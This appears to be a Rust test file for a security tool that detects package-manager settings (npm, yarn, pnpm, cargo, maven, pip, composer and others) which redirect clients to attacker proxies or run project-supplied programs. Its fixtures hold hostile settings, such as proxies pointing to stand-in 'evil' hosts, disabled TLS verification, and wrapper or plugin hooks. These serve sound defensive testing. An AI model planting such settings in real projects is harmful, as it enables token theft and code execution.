//! Settings that name other settings: a file or a directory for the client to read, arguments, or a program to run. From a
//! project they are read as the client reads them, or told; the user's own are theirs.

use std::ffi::OsString;

use gatepass_clients::{Level, Redirect, programs_of};
use gatepass_core::token::Permission;

use super::projects::attack_all;
use super::{PROJECT, Project, told_of, told_with};
use crate::packages::sandbox::{Sandbox, locations, needs, text};
use crate::packages::{handle, named, registry, target};

/// Paths and texts.
type Files = &'static [(&'static str, &'static str)];

const PLAIN: &str = "http://127.0.0.1:8081";
const TLS: &str = "https://registry.example";

/// A client's setting that names another file, with the page that says so; `None` of a variable is a setting of a file.
struct Naming {
    manager: &'static str,
    url: &'static str,
    variable: Option<(&'static str, &'static str)>,
    files: &'static [(&'static str, &'static str)],
}

const fn setting(manager: &'static str, files: &'static [(&'static str, &'static str)]) -> Naming {
    Naming { manager, url: PLAIN, variable: None, files }
}

const fn variable(
    manager: &'static str,
    url: &'static str,
    variable: (&'static str, &'static str),
    files: &'static [(&'static str, &'static str)],
) -> Naming {
    Naming { manager, url, variable: Some(variable), files }
}

const NPMRC: &[(&str, &str)] = &[("g", "proxy=http://e.example\n"), ("p/etc/npmrc", "proxy=http://e.example\n")];

const NAMINGS: &[Naming] = &[
    // <https://docs.npmjs.com/cli/using-npm/config>
    setting("npm", &[(".npmrc", "globalconfig=./g\n")]),
    setting("npm", &[(".npmrc", "globalconfig = ${PWD}/g\n")]),
    setting("npm", &[(".npmrc", "prefix=./p\n")]),
    setting("npm", &[(".npmrc", "\"prefix\"=~/project/p\n")]),
    setting("npm", &[(".npmrc", "userconfig=./g\n")]),
    variable("npm", PLAIN, ("npm_config_globalconfig", "g"), NPMRC),
    variable("npm", PLAIN, ("NPM_CONFIG_GLOBALCONFIG", "./g"), NPMRC),
    variable("npm", PLAIN, ("npm_config_userconfig", "g"), NPMRC),
    variable("npm", PLAIN, ("NPM_CONFIG_USERCONFIG", "g"), NPMRC),
    variable("npm", PLAIN, ("npm_config_prefix", "p"), NPMRC),
    variable("npm", PLAIN, ("NPM_CONFIG_PREFIX", "./p"), NPMRC),
    variable("npm", PLAIN, ("PREFIX", "p"), NPMRC),
    // <https://classic.yarnpkg.com/docs/cli/> and its `.yarnrc`
    setting("yarn", &[(".yarnrc", "--use-yarnrc \"./other\"\n")]),
    setting("yarn", &[(".yarnrc", "--cwd \"other\"\n")]),
    // <https://yarnpkg.com/configuration/yarnrc>
    variable("yarn-berry", PLAIN, ("YARN_RC_FILENAME", "rc.yml"), &[("rc.yml", "httpProxy: http://e.example\n")]),
    variable("yarn-berry", PLAIN, ("yarn_rc_filename", "rc.yml"), &[("rc.yml", "httpProxy: http://e.example\n")]),
    // <https://doc.rust-lang.org/cargo/reference/config.html>
    setting("cargo", &[(".cargo/config.toml", "include = [\"more.toml\"]\n")]),
    setting("cargo", &[(".cargo/config.toml", "include = [{ path = \"more.toml\", optional = true }]\n")]),
    // <https://maven.apache.org/configure.html>
    setting("maven", &[(".mvn/maven.config", "-s\nother.xml\n")]),
    setting("maven", &[(".mvn/maven.config", "-gs\nother.xml\n")]),
    setting("maven", &[(".mvn/maven.config", "-Dmaven.user.settings=other.xml\n")]),
    setting("maven", &[(".mvn/jvm.config", "@other\n")]),
    setting("maven", &[(".mvn/jvm.config", "-javaagent:other.jar\n")]),
    setting("gradle", &[("gradle.properties", "org.gradle.jvmargs=@other\n")]),
    // <https://getcomposer.org/doc/03-cli.md#composer>
    variable(
        "composer",
        PLAIN,
        ("COMPOSER", "other.json"),
        &[("other.json", r#"{"repositories":[{"options":{"http":{"proxy":"tcp://e.example"}}}]}"#)],
    ),
    variable(
        "composer",
        PLAIN,
        ("COMPOSER", "./sub/other.json"),
        &[("sub/other.lock", r#"{"packages":[{"transport-options":{"http":{"proxy":"tcp://e.example"}}}]}"#)],
    ),
    // <https://bundler.io/man/bundle-config.1.html>
    variable(
        "bundler",
        TLS,
        ("BUNDLE_APP_CONFIG", ".other"),
        &[(".other/config", "BUNDLE_SSL_CA_CERT: \"e.example.pem\"\n")],
    ),
    // <https://docs.ruby-lang.org/en/master/Gem/ConfigFile.html>
    variable("rubygems", PLAIN, ("GEMRC", "a:other"), &[("other", ":http_proxy: http://e.example\n")]),
    variable("rubygems", PLAIN, ("GEMRC", "other"), &[("other", "gem: --no-document --http-proxy=http://e.example\n")]),
    // <https://pip.pypa.io/en/stable/topics/configuration/>
    variable("pip", PLAIN, ("PIP_CONFIG_FILE", "pip.conf"), &[("pip.conf", "[global]\nproxy = http://e.example\n")]),
    variable("pip", TLS, ("PIP_CONFIG_FILE", "pip.conf"), &[("pip.conf", "[install]\ntrusted-host =\n  e.example\n")]),
    // <https://docs.conda.io/projects/conda/en/stable/user-guide/configuration/use-condarc.html>
    variable("conda", PLAIN, ("CONDARC", "rc.yml"), &[("rc.yml", "proxy_servers:\n  http: http://e.example\n")]),
    variable("conda", TLS, ("CONDARC", "rc.yml"), &[("rc.yml", "ssl_verify: false\n")]),
    // <https://pdm-project.org/en/latest/reference/configuration/>
    setting("pdm", &[("pyproject.toml", "[tool.pdm.options]\npublish = [\"-r\", \"http://e.example\"]\n")]),
    setting("pdm", &[("pyproject.toml", "[tool.pdm.options]\npublish = [\"--repository=e.example\"]\n")]),
    setting("pdm", &[("pyproject.toml", "[tool.pdm.options]\nlock = [\"-ce.example.toml\"]\n")]),
    setting("pdm", &[("pyproject.toml", "[tool.pdm.options]\nlock = [\"--project\", \"e.example\"]\n")]),
];

#[test]
fn a_project_that_has_other_settings_read_is_told() {
    let mut tried = 0;
    for Naming { manager, url, variable, files } in NAMINGS {
        let variables: Vec<(&str, &str)> = variable.iter().copied().collect();
        let messages = told_with(manager, url, files, &variables);
        assert!(!messages.is_empty(), "{manager}: {variable:?} with {files:?} is silent");
        assert!(
            messages.iter().all(|message| message.contains(", line ") && !message.contains("e.example")),
            "{messages:?}"
        );
        if variable.is_some() {
            // Without the variable, nobody reads it.
            assert_eq!(told_of(manager, url, files), Vec::<String>::new(), "{manager}: {files:?}");
        }
        tried += 1;
    }
    println!("{tried} settings that name others");
    assert_eq!(tried, 37);
}

#[test]
fn a_file_that_a_variable_names_outside_of_every_project_is_the_users_own() {
    let elsewhere = tempfile::tempdir().unwrap();
    let file = elsewhere.path().join("settings");
    std::fs::write(&file, "proxy=http://proxy.example\nhttpProxy: http://proxy.example\n").unwrap();
    let path = file.to_str().unwrap();
    for (manager, variable) in
        [("npm", "npm_config_userconfig"), ("pip", "PIP_CONFIG_FILE"), ("bundler", "BUNDLE_APP_CONFIG")]
    {
        assert_eq!(told_with(manager, PLAIN, &[], &[(variable, path)]), Vec::<String>::new());
    }
}

#[test]
fn the_clients_that_read_them_take_the_token_elsewhere() {
    const PROXY: (&str, &str) = ("g", "proxy=http://{evil}/\n");
    let npm = Project {
        manager: "npm",
        program: "npm",
        files: &[("package.json", r#"{"name":"ours","version":"1.0.0"}"#)],
        script: "npm view tiny version --fetch-retries=0",
        applied_is_told: true,
        ..PROJECT
    };
    let berry = Project {
        manager: "yarn-berry",
        program: "yarn-berry",
        files: &[("package.json", r#"{"name":"ours","version":"1.0.0"}"#), ("yarn.lock", "")],
        script: "export YARN_ENABLE_TELEMETRY=0\nyarn-berry npm info tiny --fields version",
        applied_is_told: true,
        ..PROJECT
    };
    let composer = Project {
        manager: "composer",
        program: "composer",
        script: "export COMPOSER_ALLOW_SUPERUSER=1\ncomposer update --no-interaction --no-plugins",
        applied_is_told: true,
        ..PROJECT
    };
    attack_all(
        &[
            Project { hostile: &[(".npmrc", "globalconfig=./g\n"), PROXY], ..npm },
            Project { hostile: &[(".npmrc", "prefix=./p\n"), ("p/etc/npmrc", "proxy=http://{evil}/\n")], ..npm },
            // Another file for the user's, which has the user's read as the global one.
            Project {
                hostile: &[
                    (".npmrc", "userconfig=./g\n"),
                    ("g", "proxy=http://{evil}/\nglobalconfig=${HOME}/.npmrc\n"),
                ],
                ..npm
            },
            Project { hostile: &[PROXY], variables: &[("npm_config_globalconfig", "g")], ..npm },
            Project {
                hostile: &[("p/etc/npmrc", "proxy=http://{evil}/\n")],
                variables: &[("npm_config_prefix", "./p")],
                ..npm
            },
            Project {
                hostile: &[("rc.yml", "httpProxy: \"http://{evil}\"\n")],
                variables: &[("YARN_RC_FILENAME", "rc.yml")],
                // The user's own file by the usual name is not read then.
                ..berry
            },
            Project {
                hostile: &[(
                    "other.json",
                    r#"{"repositories":[{"type":"composer","url":"http://{host}/artifactory/api/composer/composer",
                       "options":{"http":{"proxy":"tcp://{evil}","request_fulluri":true}}},{"packagist.org":false}],
                       "require":{"a/tiny":"*"},"config":{"secure-http":false}}"#,
                )],
                variables: &[("COMPOSER", "other.json")],
                ..composer
            },
            Project {
                manager: "pip",
                program: "pip",
                hostile: &[("pip.conf", "[global]\nproxy = http://{evil}\n")],
                variables: &[("PIP_CONFIG_FILE", "pip.conf")],
                script: "pip download --no-deps tiny",
                applied_is_told: true,
                ..PROJECT
            },
        ],
        32,
    );
}

/// What is told of programs in a project with these files.
fn programs(manager: &str, sandbox: &Sandbox) -> Vec<String> {
    let (home, directory, state) = (sandbox.home(), sandbox.project(), sandbox.state());
    let locations = locations(&home, Some(&directory), &state, &|_| None::<OsString>);
    let (registry, source) = (registry(PLAIN), handle());
    let target = target(&registry, Permission::ReadOnly, Level::User, &source);
    programs_of(named(manager), &target, &locations).iter().map(Redirect::sentence).collect()
}

#[test]
fn a_program_of_the_projects_that_the_client_runs_is_told_by_name_and_not_refused() {
    let cases: &[(&str, &str, &str, &str)] = &[
        ("npm", ".npmrc", "git=./evil\n", "`git`"),
        ("npm", ".npmrc", "script-shell=./evil\n", "`script-shell`"),
        ("pnpm", ".pnpmfile.cjs", "", ".pnpmfile.cjs"),
        ("pnpm", ".pnpmfile.mjs", "", ".pnpmfile.mjs"),
        ("pnpm", "pnpm-workspace.yaml", "pnpmfile: evil.cjs\n", "`pnpmfile`"),
        ("pnpm", "pnpm-workspace.yaml", "configDependencies:\n  a: 1.0.0\n", "`configDependencies`"),
        ("yarn", ".yarnrc", "yarn-path \"./evil.js\"\n", "`yarn-path`"),
        ("yarn", ".yarnrc.yml", "yarnPath: evil.cjs\n", "`yarnPath`"),
        ("yarn-berry", ".yarnrc.yml", "yarnPath: evil.cjs\n", "`yarnPath`"),
        ("yarn-berry", ".yarnrc.yml", "plugins:\n  - path: evil.cjs\n    spec: a\n", "`plugins`"),
        ("yarn-berry", ".yarnrc.yml", "plugins: [evil.cjs]\n", "`plugins`"),
        ("bun", "bunfig.toml", "preload = [\"./evil.ts\"]\n", "`preload`"),
        ("bun", "bunfig.toml", "[install.security]\nscanner = \"evil\"\n", "`install.security.scanner`"),
        ("cargo", ".cargo/config.toml", "[build]\nrustc-wrapper = \"./evil\"\n", "`build.rustc-wrapper`"),
        ("cargo", ".cargo/config.toml", "[build]\nrustc = \"./evil\"\n", "`build.rustc`"),
        (
            "cargo",
            ".cargo/config.toml",
            "[registries.gatepass]\ncredential-provider = [\"./evil\"]\n",
            "`credential-provider`",
        ),
        ("cargo", "rust-toolchain.toml", "[toolchain]\npath = \"./evil\"\n", "`toolchain.path`"),
        (
            "poetry",
            "pyproject.toml",
            "[tool.poetry.requires-plugins]\nevil = \"*\"\n",
            "`tool.poetry.requires-plugins`",
        ),
        ("pdm", "pyproject.toml", "[tool.pdm]\nplugins = [\"evil\"]\n", "`tool.pdm.plugins`"),
        ("maven", ".mvn/extensions.xml", "<extensions/>", ".mvn/extensions.xml"),
        ("maven", ".mvn/maven.config", "-Dmaven.ext.class.path=e.example.jar", "maven.ext.class.path"),
        ("maven", ".mvn/maven.config", "-D\nmaven.ext.class.path=e.example.jar", "maven.ext.class.path"),
        ("maven", ".mvn/maven.config", "--define\nmaven.user.extensions=e.example", "maven.user.extensions"),
        ("maven", ".mvn/maven.config", "-Dmaven.project.extensions=e.example", "maven.project.extensions"),
        ("maven", ".mvn/maven.config", "-Dmaven.installation.extensions=e.example", "maven.installation.extensions"),
        ("maven", ".mvn/maven.config", "-Dmaven.repo.local=e.example", "maven.repo.local"),
        ("maven", ".mvn/maven.config", "-Dmaven.repo.local.tail=e.example", "maven.repo.local.tail"),
        ("maven", ".mvn/jvm.config", "-Dmaven.ext.class.path=e.example.jar", "maven.ext.class.path"),
        ("maven", ".mvn/jvm.config", "-Xmx1g -Dclassworlds.conf=e.example", "classworlds.conf"),
        ("maven", ".mvn/jvm.config", "-Dmaven.home=e.example", "maven.home"),
        (
            "maven",
            ".mvn/jvm.config",
            "-Dmaven.multiModuleProjectDirectory=e.example",
            "maven.multiModuleProjectDirectory",
        ),
        ("maven", ".mvn/jvm.config", "-Djava.system.class.loader=e.example", "java.system.class.loader"),
        ("maven", ".mvn/jvm.config", "-Djava.security.properties=e.example", "java.security.properties"),
        ("npm", ".npmrc", "node-options=--require ./e.example.js", "node-options"),
        ("npm", ".npmrc", "onload-script=./e.example.js", "onload-script"),
        ("npm", ".npmrc", "init-module=./e.example.js", "init-module"),
    ];
    let mut tried = 0;
    for (manager, file, text, name) in cases {
        for below in ["", "packages/a/", "x/y/z/"] {
            let (sandbox, file) = (Sandbox::new(), format!("{below}{file}"));
            sandbox.write(&file, text);
            let messages = programs(manager, &sandbox);
            assert!(
                messages.len() == 1 && messages[0].contains(name) && messages[0].contains(", line "),
                "{manager} {file}: {messages:?}"
            );
            assert_eq!(
                told_of(manager, PLAIN, &[(&*file, *text)]),
                Vec::<String>::new(),
                "{manager} {file} is refused"
            );
            tried += 1;
        }
    }
    println!("{tried} programs");
    assert_eq!(tried, 36 * 3);
}

#[test]
fn the_clients_do_run_them() {
    let cases: &[(&str, &str, Files, &str)] = &[
        (
            "yarn",
            "yarn-classic",
            &[(".yarnrc", "yarn-path \"./evil.js\"\n"), ("evil.js", "require('fs').writeFileSync('ran', '')\n")],
            "yarn-classic info tiny",
        ),
        (
            "yarn-berry",
            "yarn-berry",
            &[(".yarnrc.yml", "yarnPath: evil.cjs\n"), ("evil.cjs", "require('fs').writeFileSync('ran', '')\n")],
            "yarn-berry npm info tiny",
        ),
        (
            "yarn-berry",
            "yarn-berry",
            &[
                (".yarnrc.yml", "plugins: [./evil.cjs]\n"),
                (
                    "evil.cjs",
                    "require('fs').writeFileSync('ran', '')\nmodule.exports = { name: 'a', factory: () => ({}) }\n",
                ),
                ("yarn.lock", ""),
            ],
            "yarn-berry npm info tiny",
        ),
        (
            "pnpm",
            "pnpm",
            &[(".pnpmfile.cjs", "require('fs').writeFileSync('ran', '')\nmodule.exports = {}\n")],
            "pnpm install --offline",
        ),
    ];
    for (manager, program, files, script) in cases {
        needs(program, "tests/packages/install-clients");
        let sandbox = Sandbox::new();
        sandbox.write("package.json", r#"{"name":"ours","version":"1.0.0"}"#);
        for (path, text) in *files {
            sandbox.write(path, text);
        }
        assert_eq!(programs(manager, &sandbox).len(), 1, "{manager}");
        let output = sandbox.run(&format!("export YARN_ENABLE_TELEMETRY=0\n{script} || true"));
        assert!(sandbox.project().join("ran").exists(), "{manager} did not run it: {}", text(&output));
    }
}
